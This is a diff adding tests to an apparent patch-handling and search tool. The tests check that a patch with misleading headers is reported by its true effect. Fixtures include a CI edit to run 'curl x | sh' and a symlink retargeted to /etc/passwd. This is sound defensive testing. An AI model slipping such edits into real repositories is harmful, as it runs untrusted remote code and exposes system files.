@@ -71,6 +71,37 @@ describe('Workbench', () => {
     });
   });
 
+  it('says what a patch does to the tree, whatever its headers name; applyPatch then commits that tree', async () => {
+    const { wb } = await setup({
+      files: { '.gitlab-ci.yml': 'test:\n  script: pytest\n', link: { symlink: 'a.txt' }, 'a.txt': 'a\n' },
+    });
+    const head = wb.head();
+    // git writes a `+++` name that extends its `---` name to the `---` path
+    const disguised =
+      '--- a/.gitlab-ci.yml\n+++ b/.gitlab-ci.yml.txt\n@@ -2 +2 @@\n-  script: pytest\n+  script: curl x | sh\n';
+    const effect = await wb.effectOf(disguised);
+    expect(effect.ok).toBe(true);
+    if (!effect.ok) return;
+    expect(effect.changes).toEqual([
+      {
+        path: '.gitlab-ci.yml',
+        before: { mode: '100644', oid: expect.stringMatching(/^[0-9a-f]{40}$/) },
+        after: { mode: '100644', oid: expect.stringMatching(/^[0-9a-f]{40}$/) },
+      },
+    ]);
+    expect(wb.head()).toBe(head);
+    // a content diff on a committed symlink, without any mode line, retargets it
+    const retarget =
+      '--- a/link\n+++ b/link\n@@ -1 +1 @@\n-a.txt\n\\ No newline at end of file\n+/etc/passwd\n\\ No newline at end of file\n';
+    const linked = await wb.effectOf(retarget);
+    expect(linked.ok && linked.changes.map((c) => [c.path, c.before?.mode, c.after?.mode])).toEqual([
+      ['link', '120000', '120000'],
+    ]);
+    const applied = await wb.applyPatch(disguised, { iteration: 1, summary: 's' });
+    expect(applied.ok && applied.tree).toBe(effect.tree);
+    expect(await wb.effectOf(editA.replace('a.txt', 'nope.txt'))).toMatchObject({ ok: false });
+  });
+
   it('checks a patch through a written tree when git keeps an index version it does not read (4); applyPatch reuses it', async () => {
     const plain = await setup({ files: { 'a.txt': 'one\ntwo\n' } });
     const date = new Date(1_800_000_000_000);
@@ -481,5 +512,19 @@ describe('Workbench blobs and search for the prompt context', () => {
     expect(await wb.grep(head, ['parse_header'], { words: false, maxHits: 1 })).toHaveLength(1);
     expect(await wb.grep(head, ['nowhere to be found'], { words: false, maxHits: 10 })).toEqual([]);
     expect(await wb.grep(head, ['x'], { words: false, maxHits: 10, paths: [] })).toEqual([]);
+  });
+
+  it('bounds a search: a long matching line is cut, too much output or a spent deadline stops it', async () => {
+    const long = `${'a'.repeat(4 * 1024 * 1024)} needle ${'b'.repeat(1024)}\n`;
+    const { wb } = await setup({ files: { 'big.txt': long, 'small.txt': 'one needle\n' } });
+    const head = wb.head();
+    const hits = await wb.grep(head, ['needle'], { words: false, maxHits: 10 });
+    expect(hits.map((h) => [h.path, h.line, h.text.length])).toEqual([
+      ['big.txt', 1, 400],
+      ['small.txt', 1, 10],
+    ]);
+    // git's output past maxBytes is not read: the long line ends the search, the hits before it stand
+    expect(await wb.grep(head, ['needle'], { words: false, maxHits: 10, maxBytes: 1024 * 1024 })).toEqual([]);
+    expect(await wb.grep(head, ['needle'], { words: false, maxHits: 10, timeoutMs: 0 })).toEqual([]);
   });
 });
